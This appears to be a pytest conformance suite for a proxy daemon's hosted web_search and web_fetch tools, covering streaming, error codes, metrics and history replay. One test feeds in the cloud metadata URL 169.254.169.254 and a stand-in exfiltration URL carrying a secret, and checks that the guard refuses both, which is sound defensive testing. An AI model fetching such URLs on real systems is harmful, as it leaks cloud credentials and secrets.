"""Hosted web_search / web_fetch on /v1/messages through the real daemon (docs/conformance.md,
cases 85-90; the README's contract row): the official SDK's stream accumulator and the
non-streaming answer, a search through the SearXNG backend, a fetch of a local HTTPS page,
the error codes, the metrics, and the history sent back."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.proxy.anthropic_http.support import MODEL, Api, sim
from tests.proxy.hosted_http.conftest import Web
from tests.support.daemon import metric_value

pytestmark = pytest.mark.asyncio(loop_scope="package")

SEARCH = {"type": "web_search_20250305", "name": "web_search"}
FETCH = {"type": "web_fetch_20250910", "name": "web_fetch"}


def searching(query: str, answer: str = "Found it.") -> str:
    return sim(
        tool_calls=[{"name": "web_search", "arguments": {"query": query}}],
        then=[{"text": answer}],
    )


def fetching(url: str, answer: str = "Read it.") -> str:
    return sim(
        tool_calls=[{"name": "web_fetch", "arguments": {"url": url}}], then=[{"text": answer}]
    )


def body(content: str, tools: list[dict[str, Any]], **fields: Any) -> dict[str, Any]:
    return {
        "model": MODEL,
        "max_tokens": 256,
        "messages": [{"role": "user", "content": content}],
        "tools": tools,
        **fields,
    }


async def upstream_bodies(api: Api, request_id: str) -> list[dict[str, Any]]:
    """Every chat request the daemon sent the model for ``request_id``, in order."""
    records = await api.sim_records(path="/v1/chat/completions")
    return [
        record["body"]
        for record in records
        if any(
            k.lower() == "x-request-id" and v == request_id for k, v in record["headers"].items()
        )
    ]


async def test_contract_search_streams_server_tool_use_and_results_to_the_sdk(
    api: Api, web_sites: Web
) -> None:
    streamed = await api.stream(body(searching("hosted fetch"), [SEARCH]))
    assert streamed.status == 200 and streamed.error is None
    message = streamed.message
    assert message is not None
    kinds = [block.type for block in message.content]
    assert kinds == ["server_tool_use", "web_search_tool_result", "text"]
    use, results, text = message.content
    assert use.type == "server_tool_use" and use.name == "web_search"
    assert use.input == {"query": "hosted fetch"}
    assert results.type == "web_search_tool_result" and results.tool_use_id == use.id
    assert isinstance(results.content, list)
    assert (results.content[0].url, results.content[0].title) == (
        web_sites.site.url("/article"),
        "Hosted fetch article",
    )
    assert all(hit.encrypted_content for hit in results.content)
    assert text.type == "text" and text.text == "Found it."
    assert message.usage.server_tool_use is not None
    assert message.usage.server_tool_use.web_search_requests == 1
    assert message.stop_reason == "end_turn"
    # The input was streamed as input_json_delta; the result came whole.
    deltas = [f.data["delta"]["type"] for f in streamed.named("content_block_delta")]
    assert deltas[0] == "input_json_delta"
    assert len(streamed.named("message_start")) == 1
    # The search went to SearXNG; the model's second round had the results in a tool message.
    assert web_sites.searxng.queries[-1]["q"] == "hosted fetch"
    first, second = await upstream_bodies(api, streamed.request_id)
    assert first["tools"][0]["function"]["name"] == "web_search"
    assistant, tool = second["messages"][-2:]
    assert assistant["tool_calls"][0]["function"]["name"] == "web_search"
    assert tool["role"] == "tool" and web_sites.site.url("/article") in tool["content"]
    assert "The daemon fetched it." in tool["content"]


async def test_non_streaming_answers_the_same_blocks(api: Api, web_sites: Web) -> None:
    reply = await api.message(body(searching("autosred"), [SEARCH]))
    assert reply.status == 200, reply.text
    content = reply.json["content"]
    assert [block["type"] for block in content] == [
        "server_tool_use",
        "web_search_tool_result",
        "text",
    ]
    assert content[0]["input"] == {"query": "autosred"}
    hit = content[1]["content"][0]
    assert hit["type"] == "web_search_result" and hit["title"] and hit["url"]
    assert reply.json["usage"]["server_tool_use"]["web_search_requests"] == 1


async def test_fetch_of_a_local_https_page_is_a_document(api: Api, web_sites: Web) -> None:
    url = web_sites.site.url("/article")
    before = web_sites.site.hits["/article"]
    streamed = await api.stream(body(f"Read {url}\n" + fetching(url), [FETCH]))
    assert streamed.message is not None, streamed.error
    result = streamed.message.content[1]
    assert result.type == "web_fetch_tool_result"
    fetched = result.content
    assert fetched.type == "web_fetch_result" and fetched.url == url
    assert fetched.content.title == "Hosted fetch article"
    assert fetched.content.source.type == "text"
    assert "forty-two" in fetched.content.source.data
    assert "menu" not in fetched.content.source.data  # the article, not the page chrome
    assert web_sites.site.hits["/article"] == before + 1
    usage = streamed.message.usage.server_tool_use
    assert usage is not None and usage.web_fetch_requests == 1


@pytest.mark.parametrize(
    ("path", "code"),
    [("/image.png", "unsupported_content_type"), ("/missing", "url_not_accessible")],
)
async def test_fetch_failures_are_error_blocks(
    api: Api, web_sites: Web, path: str, code: str
) -> None:
    url = web_sites.site.url(path)
    streamed = await api.stream(body(f"Read {url}\n" + fetching(url), [FETCH]))
    assert streamed.message is not None, streamed.error
    result = streamed.message.content[1]
    assert result.type == "web_fetch_tool_result"
    assert result.content.type == "web_fetch_tool_result_error"
    assert result.content.error_code == code


async def test_fetch_outside_the_guard_or_the_conversation_is_refused(api: Api) -> None:
    metadata = "http://169.254.169.254/latest/meta-data/"
    streamed = await api.stream(body(f"Read {metadata}\n" + fetching(metadata), [FETCH]))
    assert streamed.message is not None
    assert streamed.message.content[1].content.error_code == "url_not_allowed"  # type: ignore[union-attr]
    # A URL the model made up (the reply script, not the request, names it).
    made_up = "https://exfiltrate.example.com/?secret=1"
    call = {"name": "web_fetch", "arguments": {"url": made_up}}
    await api.set_script([{"tool_calls": [call], "then": [{"text": "No."}]}])
    try:
        streamed = await api.stream(body("Fetch something", [FETCH]))
    finally:
        await api.set_script([])
    assert streamed.message is not None
    assert streamed.message.content[1].content.error_code == "url_not_in_prior_context"  # type: ignore[union-attr]


async def test_searxng_429_is_too_many_requests(api: Api, web_sites: Web) -> None:
    web_sites.searxng.limited = True
    try:
        streamed = await api.stream(body(searching("limited"), [SEARCH]))
    finally:
        web_sites.searxng.limited = False
    assert streamed.message is not None
    result = streamed.message.content[1]
    assert result.type == "web_search_tool_result"
    assert not isinstance(result.content, list)
    assert result.content.error_code == "too_many_requests"
    assert streamed.message.content[2].type == "text"  # the model went on


async def test_max_uses_and_the_metrics(api: Api) -> None:
    directive = sim(
        tool_calls=[
            {"name": "web_search", "arguments": {"query": "one"}},
            {"name": "web_search", "arguments": {"query": "two"}},
        ],
        then=[{"text": "Done."}],
    )
    before = metric_value(
        await api.daemon.metrics(),
        "autosred_hosted_tool_calls_total",
        surface="anthropic",
        client="tester",
        tool="web_search",
        outcome="max_uses_exceeded",
    )
    reply = await api.message(body(directive, [{**SEARCH, "max_uses": 1}]))
    assert reply.status == 200, reply.text
    results = [b for b in reply.json["content"] if b["type"] == "web_search_tool_result"]
    assert isinstance(results[0]["content"], list)
    assert results[1]["content"]["error_code"] == "max_uses_exceeded"
    assert reply.json["usage"]["server_tool_use"]["web_search_requests"] == 1
    after = metric_value(
        await api.daemon.metrics(),
        "autosred_hosted_tool_calls_total",
        surface="anthropic",
        client="tester",
        tool="web_search",
        outcome="max_uses_exceeded",
    )
    assert after == before + 1
    calls = api.daemon.events_named("hosted.call")
    assert any(event.get("outcome") == "max_uses_exceeded" for event in calls)


async def test_history_sent_back_is_the_conversation_the_model_saw(api: Api) -> None:
    first = await api.message(body(searching("replay me"), [SEARCH]))
    assert first.status == 200, first.text
    live = (await upstream_bodies(api, first.request_id))[-1]["messages"]
    follow_up = body(
        "thanks",
        [SEARCH],
        messages=[
            {"role": "user", "content": searching("replay me")},
            {"role": "assistant", "content": first.json["content"]},
            {"role": "user", "content": "thanks"},
        ],
    )
    second = await api.message(follow_up)
    assert second.status == 200, second.text
    replayed = (await upstream_bodies(api, second.request_id))[0]["messages"]
    # The tool round as the model saw it live (the snippets opened from encrypted_content).
    assert replayed[2] == live[2]
    assert json.loads(replayed[1]["tool_calls"][0]["function"]["arguments"]) == {
        "query": "replay me"
    }
    assert replayed[1]["tool_calls"][0]["id"] == live[1]["tool_calls"][0]["id"]


async def test_case_28_other_server_tools_are_still_removed(api: Api) -> None:
    bash = {"type": "bash_20250124", "name": "bash"}
    code = {"type": "code_execution_20250825", "name": "code_execution"}
    reply = await api.message(body("hi", [SEARCH, FETCH, bash, code]))
    assert reply.status == 200, reply.text
    sent = (await upstream_bodies(api, reply.request_id))[0]
    assert [t["function"]["name"] for t in sent["tools"]] == ["web_search", "web_fetch"]
    forced = await api.message(
        body("hi", [SEARCH, bash], tool_choice={"type": "tool", "name": "bash"})
    )
    assert forced.status == 400 and "not supported" in forced.json["error"]["message"]
    # Forcing a hosted tool is a forced function call, once (the next round is "auto").
    directive = searching("forced")
    reply = await api.message(
        body(directive, [SEARCH], tool_choice={"type": "tool", "name": "web_search"})
    )
    assert reply.status == 200, reply.text
    first, second = await upstream_bodies(api, reply.request_id)
    assert first["tool_choice"] == {"type": "function", "function": {"name": "web_search"}}
    assert second["tool_choice"] == "auto"
